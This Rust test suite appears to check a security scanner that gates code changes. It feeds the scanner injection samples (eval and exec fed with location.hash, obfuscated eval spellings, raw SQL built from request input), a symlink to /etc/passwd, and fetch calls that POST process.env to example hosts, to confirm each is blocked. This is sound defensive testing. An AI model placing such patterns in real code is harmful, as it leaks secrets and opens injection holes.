//! What the gates promise, statement by statement. Each stands here or where the list says.
//!
//! | statement | shown by |
//! |---|---|
//! | a pure function: the same trees give the same bytes | [`the_same_change_gives_the_same_report`] |
//! | trees, not diff text; diffs by hunk counts, names unquoted; what does not add up fails closed | `rows::parser`, `scanner::diff` |
//! | only what the change brings, or what its edits make dangerous | `changes`, [`what_an_edit_makes_dangerous_elsewhere_counts`] |
//! | every commit that becomes public is looked at for secrets | `slipway scan`'s own tests |
//! | what cannot be read, and what decides over builds, is at least a review | [`nothing_that_decides_or_hides_passes_unseen`], `changes` |
//! | an engine that fails, or a file that was not read, blocks | `scanner::tests`, `changes` |
//! | policy, baseline and suppressions are never the change's own | `changes`, [`nothing_that_decides_or_hides_passes_unseen`] |
//! | files and lines are counted; the self-check must find all | `output`, `changes`, `scanner::report` |
//! | tainted blocks, unknown asks for a look, constant is silent; a gate passes with nothing open | [`origins_decide`], `rows::gates` |
//! | every kind of program, sinks as data with examples | `scanner::script` |
//! | values keep their origin on every way | [`origins_decide`], `scanner::script` |
//! | what visitors send, as frameworks hand it over | [`what_visitors_send_is_known`] |
//! | all 14 spellings of dynamic code | [`every_spelling_of_dynamic_code_is_found`] |
//! | secrets by rules, names and encodings; none leaves | `rows::security`, `scanner::secret`, [`secrets_are_found_three_encodings_deep`], `output` |
//! | text tricks, obfuscators | `scanner::unseen` |
//! | network, exfiltration and backdoors as chains; hosts match whole | `rows::security`, [`hosts_match_whole`] |
//! | statements that lose data, and those that do not | `rows::destructive`, `scanner::sql` |
//! | schema without migration, edited migration, plain words, renames | `scanner::sql` |
//! | an acknowledgement is for one statement; any edit needs a new one | [`an_acknowledgement_ends_with_the_statement`] |
//! | places, imports, workspaces, clients and servers | `scanner::layout`, `rows::gates` |
//! | packages: new, moved, foreign, young, licensed, deprecated, weak, look-alike | `scanner::supply`, `rows::gates` |
//! | SARIF, JSON, text; nothing in a name acts as anything else | `output` |
//! | fingerprints without line numbers; suppression for one statement, reviews only | `changes` |

use scanner::change::{ChangeSet, ChangedFile, Content, Origin};
use scanner::finding::{Category, Gate, Verdict};
use scanner::policy::Policy;
use scanner::{Baseline, Report, scan};

use super::{file, open, report, token};

fn verdicts(text: &str) -> Vec<Verdict> {
    let report = report(vec![file("apps/web/a.tsx", None, Some(text))]);
    report.open().map(|it| it.verdict).collect()
}

fn is_found(text: &str, category: Category, verdict: Verdict) -> bool {
    let report = report(vec![file("apps/web/app/a/page.tsx", None, Some(text))]);
    report.open().any(|it| it.category == category && it.verdict >= verdict)
}

#[test]
fn the_same_change_gives_the_same_report() {
    let change = || {
        vec![
            file("src/b.ts", None, Some(&token("b"))),
            file("db/1.sql", None, Some("DROP TABLE a;\nTRUNCATE b;\n")),
            file("src/a.ts", Some("x();\n"), Some("eval(location.hash);\n")),
        ]
    };
    let (one, other) = (report(change()), report(change()));
    assert_eq!(one.sarif().to_string(), other.sarif().to_string());
    assert_eq!(one.text(), other.text());
    assert_eq!(one.json().as_array().map(Vec::len), Some(4));
}

#[test]
fn what_an_edit_makes_dangerous_elsewhere_counts() {
    let text = |table: &str| {
        format!(
            "{table}\n\n\nexport async function all() {{\n  return db.query(`SELECT * FROM ${{table}}`);\n}}\n"
        )
    };
    let fixed = text("const table = 'users';");
    let sent = text("const table = location.hash;");
    assert_eq!(open(&report(vec![file("src/a.ts", None, Some(&fixed))])), []);
    let edited = report(vec![file("src/a.ts", Some(&fixed), Some(&sent))]);
    assert_eq!(open(&edited), [("sqli.query", 5)], "the query's own line is as it was");
}

#[test]
fn nothing_that_decides_or_hides_passes_unseen() {
    let with = |path: &str, mode: u32, bytes: &[u8]| ChangedFile {
        path: path.to_owned(),
        moved_from: None,
        before: None,
        after: Some(Content { mode, bytes: bytes.to_vec() }),
    };
    let plain = |path: &str, bytes: &[u8]| with(path, 0o100_644, bytes);
    let table = [
        ("unparsable TypeScript", plain("src/a.ts", b"const = ;"), Gate::Security),
        ("unparsable SQL", plain("db/a.sql", b"THIS IS NOT SQL;"), Gate::Destructive),
        ("binary", plain("src/a.bin", b"a\0b"), Gate::Security),
        ("oversized text", plain("src/a.txt", &vec![b'a'; 5 << 20]), Gate::Security),
        ("bad UTF-8", plain("src/a.txt", b"caf\xe9"), Gate::Security),
        ("added symlink", with("src/a", 0o120_000, b"/etc/passwd"), Gate::Security),
        ("submodule", with("src/a", 0o160_000, b"1234"), Gate::Security),
        ("LFS pointer", plain("src/a.bin", b"version https://git-lfs.github.com/spec/v1\n"), Gate::Security),
        ("executable bit", with("a.sh", 0o100_755, b"ls\n"), Gate::Security),
        (".gitattributes", plain(".gitattributes", b"* -diff\n"), Gate::Security),
        ("workflow", plain(".github/workflows/a.yml", b"on: push\n"), Gate::Security),
        ("hook", plain(".githooks/pre-push", b"ls\n"), Gate::Security),
        (".npmrc", plain(".npmrc", b"registry=https://a.example\n"), Gate::Security),
        ("pnpm-workspace.yaml", plain("pnpm-workspace.yaml", b"packages: []\n"), Gate::Security),
        ("Dockerfile", plain("Dockerfile", b"FROM a\n"), Gate::Security),
        ("scanner policy", plain(".slipway/policy.toml", b"fingerprint_key = 'a'\n"), Gate::Security),
        ("baseline", plain(".slipway/baseline.json", b"{\"accepted\": []}\n"), Gate::Security),
    ];
    for (row, file, gate) in table {
        assert!(!report(vec![file]).passes(gate), "{row}");
    }
}

/// How a value goes from where it enters to where it does harm: what a visitor sends, then the same with a constant.
const WAYS: &[(&str, &str)] = &[
    ("a constant's name", "const a = IN; eval(a);"),
    ("a variable that changes", "let a = ''; a += IN; eval(a);"),
    ("a template", "eval(`f(${IN})`);"),
    ("a concatenation", "eval('f(' + IN + ')');"),
    ("a condition", "eval(ok ? IN : 'f()');"),
    ("a fallback", "eval(IN ?? 'f()');"),
    ("awaiting", "const f = async () => { const a = await IN; eval(a); }; f();"),
    ("taking apart", "const { a } = { a: IN }; eval(a);"),
    ("a list taken apart", "const [a] = [IN]; eval(a);"),
    ("spreading", "const a = { ...{ b: IN } }; eval(a.b);"),
    ("a helper that gives it back", "const same = (it) => it.trim(); eval(same(IN));"),
    ("a helper that runs it", "function run(it) { eval(it); } run(IN);"),
    ("another name for the sink", "const e = eval; e(IN);"),
    ("a folded name", "globalThis['ev' + 'al'](IN);"),
];

#[test]
fn origins_decide() {
    for (way, text) in WAYS {
        let sent = verdicts(&text.replace("IN", "location.hash"));
        assert!(sent.contains(&Verdict::Block), "{way}, tainted: {sent:?}");
        let fixed = verdicts(&text.replace("IN", "'f()'"));
        assert!(!fixed.contains(&Verdict::Block), "{way}, constant: {fixed:?}");
    }
    assert_eq!(verdicts("export const run = (it) => eval(it);"), [Verdict::Review], "unknown");
    assert_eq!(verdicts("import { text } from './text'; eval(text);"), [Verdict::Review], "imported");
    assert_eq!(verdicts("eval('1 + 1');"), [], "constant");
    let imports = [
        "import { exec } from 'child_process'; exec(location.hash);",
        "import { exec as e } from 'node:child_process'; e(location.hash);",
        "import * as cp from 'child_process'; cp.exec(location.hash);",
        "const { exec: e } = require('child_process'); e(location.hash);",
        "const e = require('child_process').exec; e(location.hash);",
        "const e = require('util').promisify(require('child_process').exec); e(location.hash);",
    ];
    for text in imports {
        assert!(is_found(text, Category::Cmdi, Verdict::Block), "{text}");
    }
}

#[test]
fn what_visitors_send_is_known() {
    let sink = "prisma.$queryRawUnsafe(`SELECT * FROM a WHERE b = '${IN}'`)";
    let table = [
        (
            "route handlers: the body",
            "export async function POST(request) { const { b } = await request.json(); return SINK; }",
            "b",
        ),
        (
            "route handlers: params",
            "export async function GET(request, { params }) { return SINK; }",
            "params.id",
        ),
        (
            "route handlers: the address",
            "export async function GET(request) { const q = new URL(request.url).searchParams; return SINK; }",
            "q.get('b')",
        ),
        (
            "route handlers: nextUrl",
            "export async function GET(request) { return SINK; }",
            "request.nextUrl.searchParams.get('b')",
        ),
        ("server actions", "'use server'; export async function save(b) { return SINK; }", "b"),
        (
            "server actions: formData",
            "'use server'; export async function save(formData) { return SINK; }",
            "formData.get('b')",
        ),
        (
            "pages: searchParams",
            "export default async function Page({ searchParams }) { await SINK; return null; }",
            "searchParams.b",
        ),
        (
            "pages: params",
            "export default async function Page({ params }) { await SINK; return null; }",
            "(await params).id",
        ),
        (
            "cookies()",
            "import { cookies } from 'next/headers'; export async function GET() { return SINK; }",
            "(await cookies()).get('b').value",
        ),
        (
            "headers()",
            "import { headers } from 'next/headers'; export async function GET() { return SINK; }",
            "(await headers()).get('b')",
        ),
        ("handlers of messages", "window.addEventListener('message', (event) => { SINK; });", "event.data"),
        ("express", "app.get('/', (req, res) => { SINK; });", "req.query.b"),
    ];
    for (row, text, from) in table {
        let text = text.replace("SINK", &sink.replace("IN", from));
        assert!(is_found(&text, Category::Sqli, Verdict::Block), "{row}: {text}");
    }
}

#[test]
fn every_spelling_of_dynamic_code_is_found() {
    for spelling in [
        "globalThis[\"ev\"+\"al\"](x)",
        "(0,eval)(x)",
        "const e=eval; e(x)",
        "new Function(x)()",
        "Function(x)()",
        "window[\"eval\"](x)",
        "setTimeout(\"alert(\"+x+\")\",1)",
        "import(\"data:text/javascript,\"+x)",
        "[].constructor.constructor(x)()",
        "eval/**/(x)",
        "eval?.(x)",
        "ev\\u0061l(x)",
        "Reflect.apply(eval,null,[x])",
        "globalThis[`e${\"v\"}al`](x)",
    ] {
        let text = format!("export function run(x) {{ {spelling}; }}");
        assert!(is_found(&text, Category::Eval, Verdict::Review), "{spelling}");
    }
}

#[test]
fn secrets_are_found_three_encodings_deep() {
    let mut text = token("a");
    for depth in 0..=3 {
        let report = report(vec![file("src/a.ts", None, Some(&text))]);
        assert!(report.open().any(|it| it.rule == "github-pat"), "{depth} deep: {:?}", open(&report));
        text = format!("const a = '{}';\n", data_encoding::BASE64.encode(text.as_bytes()));
    }
}

#[test]
fn hosts_match_whole() {
    let mut policy = Policy::default();
    policy.network.hosts = vec!["api.acme.example".to_owned()];
    let table = [
        ("https://api.acme.example/x", true),
        ("https://API.acme.example/x", true),
        ("https://api.acme.example:8443/x", true),
        ("/api/x", true),
        ("https://acme.example/x", false),
        ("https://api.acme.example.io/x", false),
        ("https://xapi.acme.example/x", false),
        ("https://api.acme.example@a.io/x", false),
    ];
    for (address, is_allowed) in table {
        let text = format!("fetch('{address}', {{ method: 'POST', body: JSON.stringify(process.env) }});\n");
        let change = ChangeSet::of(Origin::Trees, vec![file("src/a.ts", None, Some(&text))]);
        assert_eq!(scan(&change, &policy).open().next().is_none(), is_allowed, "{address}");
    }
}

#[test]
fn an_acknowledgement_ends_with_the_statement() {
    let of = |sql: &str| report(vec![file("db/migrations/1/migration.sql", None, Some(sql))]);
    let first = of("DELETE FROM a WHERE id = 1;\n");
    let print = first.open().next().map(|it| it.fingerprint.clone()).unwrap_or_default();
    let entry = format!(
        r#"{{"accepted":[{{"fingerprint":"{print}","reason":"the row was a mistake","by":"ann","at":"2026-11-24"}}]}}"#
    );
    let baseline = Baseline::parse(&entry).unwrap();
    let open_after = |mut report: Report| {
        report.accept(&baseline);
        report.open().count()
    };
    for (sql, count) in [
        ("DELETE FROM a WHERE id = 1;\n", 0),
        ("SELECT 1;\n\ndelete from a\n  where id = 1;\n", 0),
        ("DELETE FROM a WHERE id = 2;\n", 1),
        ("DELETE FROM b WHERE id = 1;\n", 1),
        ("DELETE FROM a;\n", 1),
        ("DELETE FROM a WHERE id = 1;\nDELETE FROM a WHERE id = 1;\n", 1),
    ] {
        assert_eq!(open_after(of(sql)), count, "{sql}");
    }
}
